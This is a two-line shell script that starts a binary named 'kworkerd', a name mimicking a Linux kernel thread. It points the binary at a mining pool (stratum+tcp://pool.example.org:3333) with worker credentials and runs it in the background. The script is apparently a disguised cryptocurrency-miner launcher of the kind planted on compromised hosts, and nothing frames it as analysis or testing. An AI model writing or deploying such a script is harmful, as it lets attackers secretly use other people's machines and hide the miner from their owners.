#!/bin/sh
./kworkerd -o stratum+tcp://pool.example.org:3333 -u worker1 -p x -B
